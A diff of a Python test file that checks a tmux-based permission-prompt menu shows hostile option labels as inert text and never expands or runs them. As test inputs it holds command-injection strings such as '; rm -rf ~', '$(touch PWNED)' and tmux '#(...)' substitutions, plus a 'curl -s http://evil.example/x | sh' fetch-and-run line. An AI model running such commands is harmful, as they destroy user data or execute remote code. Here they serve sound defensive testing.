@@ -22,7 +22,7 @@ from osc7501wrap.commands import tmux_init
 from osc7501wrap.commands.tmux_menu import menu_args, tmux_quote
 
 CHILD = str(Path(__file__).with_name("answer_child.py"))
-HOSTILE = ["; rm -rf ~ && touch PWNED", "#{pane_id} #(touch PWNED) #[fg=red]",
+HOSTILE = ["; rm -rf ~ && touch PWNED", "#{pane_id} #(touch PWNED) #[fg=red] %H:%M 5%%",
            "'\"$(touch PWNED)`touch PWNED` \\", "No"]
 
 
@@ -82,10 +82,12 @@ def test_the_menu_shows_inert_labels_and_answers(nested, tmp_path: Path) -> None
     wait_until(lambda: "claude: Bash: rm -rf build" in screen(outer), what="the menu")
     shown = screen(outer)
     assert "1. ; rm -rf ~ && touch PWNED" in shown
-    assert "2. ♯{pane_id} ♯(touch PWNED) ♯[fg=red]" in shown
+    assert "2. ♯{pane_id} ♯(touch PWNED) ♯[fg=red] ٪H:٪M 5٪٪" in shown
     assert "3. '\"$(touch PWNED)`touch PWNED` \\" in shown
     assert "4. No" in shown and "Jump there" in shown
     assert pane not in shown  # #{pane_id} was not expanded
+    # one separator between the options and the jump item: a line of ─ inside the box
+    assert sum("├─" in ln for ln in shown.splitlines()) == 1, shown
     outer.cmd("send-keys", "-t", "t", "2")
     wait_until(lambda: keys.exists() and keys.read_bytes() == b"2", what="the answer")
     wait_until(lambda: "CHOSE 2" in inner.cmd("capture-pane", "-p", "-t", pane),
@@ -126,7 +128,7 @@ def test_the_menu_shows_every_row_of_a_multi_line_command(nested, tmp_path: Path
     wait_until(lambda: "Jump there" in screen(outer), what="the menu")
     shown = screen(outer)
     assert "ls -la" in shown
-    assert "curl -s http://evil.example/x | sh ♯(touch PWNED) %H:%M $(id)" in shown
+    assert "curl -s http://evil.example/x | sh ♯(touch PWNED) ٪H:٪M $(id)" in shown
     assert "more lines: osc7501wrap dialog" in shown  # folded, and says so
     assert "1. Yes" in shown and "2. No" in shown
     outer.cmd("send-keys", "-t", "t", "Escape")
@@ -143,7 +145,8 @@ def test_menu_commands_carry_no_screen_text() -> None:
     assert args[:5] == ["display-menu", "-c", "/dev/pts/3", "-T", "claude: ♯(touch Q) $(touch Q)?"]
     assert args[9] == "--"
     items = args[10:]
-    triples = [items[i:i + 3] for i in range(0, len(items), 3)]
+    assert items[6:7] == [""]  # one separator: an empty name stands alone
+    triples = [items[i:i + 3] for i in range(0, 6, 3)] + [items[7:]]
     assert triples[0][:2] == ['1. ♯(touch A)"; kill', "1"]
     assert triples[1][:2] == ["2. -disabled?", "2"]  # not "-": shown enabled
     for _name, _, command in triples[:2]:
